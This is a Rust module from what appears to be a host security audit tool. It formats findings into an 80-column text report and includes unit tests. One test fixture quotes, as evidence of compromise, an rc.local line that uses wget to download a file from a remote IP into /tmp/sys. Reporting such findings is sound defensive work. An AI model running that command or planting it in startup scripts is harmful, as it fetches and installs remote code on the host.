//! The report for people: readable at 80 columns without colour. Findings whose process
//! talks to the network now come first, then the others grouped by severity, worst first,
//! then those the allow-list named (`ALLOWED`); notes; and a one-line summary at the end.

use super::{
    finding::{Finding, Severity, Traffic},
    report::Report,
};
use crate::units;

/// Where the text of a labelled line starts.
const LABEL_WIDTH: usize = 12;
/// Remote hosts shown per finding; the rest are counted.
const SHOWN_HOSTS: usize = 5;

/// The whole report, lines of at most `width` characters (a single word longer than a
/// line is cut), ending with a newline.
pub fn render(report: &Report, width: usize) -> String {
    let mut lines: Vec<String> = Vec::new();
    let subject = if report.live {
        format!(
            "flowmeter audit of {} (the running system)",
            report.root.display()
        )
    } else {
        format!(
            "flowmeter audit of {} (a tree on disk, not the running system)",
            report.root.display()
        )
    };
    lines.extend(wrap(&subject, "", "  ", width));

    // Advice already given in full, and the finding it was given for.
    let mut advised: Vec<(&str, &str)> = Vec::new();
    let (counted, allowed): (Vec<&Finding>, Vec<&Finding>) =
        report.findings.iter().partition(|f| f.counts());
    let (talking, quiet): (Vec<&Finding>, Vec<&Finding>) =
        counted.into_iter().partition(|f| f.traffic.is_some());
    if let Some(watched) = report.watched {
        lines.push(String::new());
        let heading = format!(
            "TALKING TO THE NETWORK NOW (traffic metered for {} s): {}",
            watched.as_secs_f64().round(),
            talking.len()
        );
        lines.extend(wrap(&heading, "", "  ", width));
        for finding in &talking {
            lines.push(String::new());
            finding_lines(finding, width, &mut advised, &mut lines);
        }
    }
    for severity in Severity::WORST_FIRST {
        let group: Vec<&&Finding> = quiet.iter().filter(|f| f.severity == severity).collect();
        if group.is_empty() {
            continue;
        }
        lines.push(String::new());
        lines.push(format!(
            "{} ({})",
            severity.label().to_uppercase(),
            group.len()
        ));
        for finding in group {
            lines.push(String::new());
            finding_lines(finding, width, &mut advised, &mut lines);
        }
    }
    if !allowed.is_empty() {
        lines.push(String::new());
        let heading = format!(
            "ALLOWED ({}): named by the allow-list, not counted",
            allowed.len()
        );
        lines.extend(wrap(&heading, "", "  ", width));
        for finding in allowed {
            lines.push(String::new());
            finding_lines(finding, width, &mut advised, &mut lines);
        }
    }
    if report.findings.is_empty() {
        lines.push(String::new());
        lines.push("No findings.".to_owned());
    }
    if !report.notes.is_empty() {
        lines.push(String::new());
        lines.push("NOTES".to_owned());
        for note in &report.notes {
            lines.extend(wrap(note, "- ", "  ", width));
        }
    }
    lines.push(String::new());
    lines.extend(wrap(
        &format!("Summary: {}", report.summary()),
        "",
        "  ",
        width,
    ));
    let mut text = lines.join("\n");
    text.push('\n');
    text
}

/// One finding's lines. Advice given in full for an earlier finding is referred to; an
/// allowed finding names its entry instead (the advice is for a process nobody knows).
fn finding_lines<'a>(
    finding: &'a Finding,
    width: usize,
    advised: &mut Vec<(&'a str, &'a str)>,
    lines: &mut Vec<String>,
) {
    lines.extend(wrap(
        &format!("[{}] {}", finding.severity, finding.id),
        "",
        "  ",
        width,
    ));
    lines.extend(wrap(&finding.title, "  ", "  ", width));
    let mut field = |label: &str, text: &str| {
        let first = format!("  {label:<width$}", width = LABEL_WIDTH - 2);
        lines.extend(wrap(text, &first, &" ".repeat(LABEL_WIDTH), width));
    };
    field("evidence", &finding.evidence);
    if let Some(process) = &finding.process {
        field("process", &process.to_string());
    }
    if let Some(traffic) = &finding.traffic {
        field("traffic", &traffic_text(traffic));
    }
    if let Some(entry) = &finding.allowed {
        field(
            "allowed",
            &format!("by {entry}; remove the entry if this is not the program you meant"),
        );
        return;
    }
    match advised.iter().find(|(advice, _)| *advice == finding.advice) {
        Some((_, id)) if *id == finding.id => field("to do", "as above"),
        Some((_, id)) => field("to do", &format!("as for {id} above")),
        None => {
            advised.push((finding.advice, &finding.id));
            field("to do", finding.advice);
        }
    }
}

/// `1.2 MB with 3 remote hosts: 203.0.113.5, ...; countries: CN, US`.
fn traffic_text(traffic: &Traffic) -> String {
    let mut hosts: Vec<String> = traffic
        .remote_hosts
        .iter()
        .take(SHOWN_HOSTS)
        .map(ToString::to_string)
        .collect();
    if traffic.remote_host_count > hosts.len() {
        hosts.push(format!(
            "and {} more",
            traffic.remote_host_count - hosts.len()
        ));
    }
    let mut text = format!(
        "{} with {} remote host{}: {}",
        units::bytes_decimal(traffic.bytes),
        traffic.remote_host_count,
        if traffic.remote_host_count == 1 {
            ""
        } else {
            "s"
        },
        hosts.join(", ")
    );
    if !traffic.countries.is_empty() {
        text.push_str(&format!("; countries: {}", traffic.countries.join(", ")));
    }
    text
}

/// `text` in lines of at most `width` characters: the first starts with `first`, the
/// others with `rest`. Words longer than a line are cut.
fn wrap(text: &str, first: &str, rest: &str, width: usize) -> Vec<String> {
    let mut lines = Vec::new();
    let mut line = first.to_owned();
    let mut empty = true;
    for word in text.split_whitespace() {
        let mut word: Vec<char> = word.chars().collect();
        loop {
            let used = line.chars().count();
            let needed = word.len() + usize::from(!empty);
            if used + needed <= width {
                if !empty {
                    line.push(' ');
                }
                line.extend(word.iter());
                empty = false;
                break;
            }
            if !empty {
                lines.push(std::mem::replace(&mut line, rest.to_owned()));
                empty = true;
                continue;
            }
            // Alone on its line and still too long: cut it.
            let room = width.saturating_sub(used).max(1);
            let tail = word.split_off(room.min(word.len()));
            line.extend(word.iter());
            lines.push(std::mem::replace(&mut line, rest.to_owned()));
            word = tail;
            if word.is_empty() {
                break;
            }
        }
    }
    if !empty || lines.is_empty() {
        lines.push(line);
    }
    lines
}

#[cfg(test)]
mod tests {
    use std::{path::Path, time::Duration};

    use super::*;
    use crate::audit::finding::{Findings, ProcessRef};

    fn report() -> Report {
        let mut found = Findings::default();
        found.add(Finding::new(
            "rc-local-download-exec",
            Severity::Critical,
            "rc.local downloads or decodes code and runs it (wget, /tmp/sys)",
            "/etc/rc.local:3: wget -q http://203.0.113.50/a/very/long/path/that/goes/on/and/on/sys -O /tmp/sys",
            "Remove the entry unless you added it yourself.",
        ));
        found.add(Finding::new(
            "sshd-port-22",
            Severity::Low,
            "sshd listens on 22",
            "/etc/ssh/sshd_config:2: Port 22",
            "Move it.",
        ));
        found.note("live-only checks skipped");
        Report::new(Path::new("tests/fixtures/audit/compromised"), false, found)
    }

    #[test]
    fn grouped_by_severity_at_80_columns_with_a_summary_last() {
        let text = render(&report(), 80);
        assert!(
            text.lines().all(|line| line.chars().count() <= 80),
            "{text}"
        );
        let expected = "\
flowmeter audit of tests/fixtures/audit/compromised (a tree on disk, not the
  running system)

CRITICAL (1)

[critical] rc-local-download-exec
  rc.local downloads or decodes code and runs it (wget, /tmp/sys)
  evidence  /etc/rc.local:3: wget -q
            http://203.0.113.50/a/very/long/path/that/goes/on/and/on/sys -O
            /tmp/sys
  to do     Remove the entry unless you added it yourself.

LOW (1)

[low] sshd-port-22
  sshd listens on 22
  evidence  /etc/ssh/sshd_config:2: Port 22
  to do     Move it.

NOTES
- live-only checks skipped

Summary: 1 critical, 0 high, 0 medium, 1 low, 0 info: needs action (exit 3)
";
        assert_eq!(text, expected);
    }

    #[test]
    fn talking_findings_come_first_with_their_traffic() {
        let mut report = report();
        report.watched = Some(Duration::from_secs(10));
        let finding = &mut report.findings[1];
        finding.process = Some(ProcessRef {
            pid: 812,
            comm: "redis-server".into(),
            exe: None,
        });
        finding.traffic = Some(Traffic {
            remote_hosts: vec![
                "203.0.113.5".parse().unwrap(),
                "198.51.100.7".parse().unwrap(),
            ],
            remote_host_count: 2,
            countries: vec!["CN".into(), "US".into()],
            bytes: 1_234_567,
        });
        report.sort();
        let text = render(&report, 80);
        let talking = text
            .find("TALKING TO THE NETWORK NOW (traffic metered for 10 s): 1")
            .unwrap();
        let port = text.find("[low] sshd-port-22").unwrap();
        let critical = text.find("CRITICAL (1)").unwrap();
        assert!(talking < port && port < critical, "{text}");
        assert!(
            text.contains("  process   redis-server (pid 812)\n"),
            "{text}"
        );
        assert!(
            text.contains(
                "  traffic   1.2 MB with 2 remote hosts: 203.0.113.5, 198.51.100.7; countries:\n            CN, US\n"
            ),
            "{text}"
        );
    }

    #[test]
    fn allowed_findings_come_last_with_their_entry_and_no_advice() {
        let mut report = report();
        let mut known = Finding::new(
            "process-exe-deleted",
            Severity::High,
            "runc runs from memory (memfd), with no program file on disk",
            "pid 77 (runc, user root): /memfd:runc_cloned:/proc/self/exe (deleted)",
            "Kill the process.",
        );
        known.process = Some(ProcessRef {
            pid: 77,
            comm: "runc".into(),
            exe: Some("/memfd:runc_cloned:/proc/self/exe".into()),
        });
        known.allowed = Some("memfd:runc_cloned*".into());
        report.findings.push(known);
        report.sort();
        let text = render(&report, 80);
        assert!(
            text.lines().all(|line| line.chars().count() <= 80),
            "{text}"
        );
        let expected = "\
LOW (1)

[low] sshd-port-22
  sshd listens on 22
  evidence  /etc/ssh/sshd_config:2: Port 22
  to do     Move it.

ALLOWED (1): named by the allow-list, not counted

[high] process-exe-deleted
  runc runs from memory (memfd), with no program file on disk
  evidence  pid 77 (runc, user root): /memfd:runc_cloned:/proc/self/exe
            (deleted)
  process   runc (pid 77, /memfd:runc_cloned:/proc/self/exe)
  allowed   by memfd:runc_cloned*; remove the entry if this is not the program
            you meant

NOTES
- live-only checks skipped

Summary: 1 critical, 0 high, 0 medium, 1 low, 0 info, 1 allowed: needs action
  (exit 3)
";
        assert!(text.ends_with(expected), "{text}");
    }

    #[test]
    fn words_wrap_and_long_ones_are_cut() {
        assert_eq!(wrap("a bb ccc", "> ", "  ", 6), ["> a bb", "  ccc"]);
        assert_eq!(wrap("abcdefghij", "", "", 4), ["abcd", "efgh", "ij"]);
        assert_eq!(wrap("", "x", "", 4), ["x"]);
        assert_eq!(units::bytes_decimal(999), "999 B");
        assert_eq!(units::bytes_decimal(1_500), "1.5 kB");
        assert_eq!(units::bytes_decimal(2_000_000_000), "2.0 GB");
    }
}
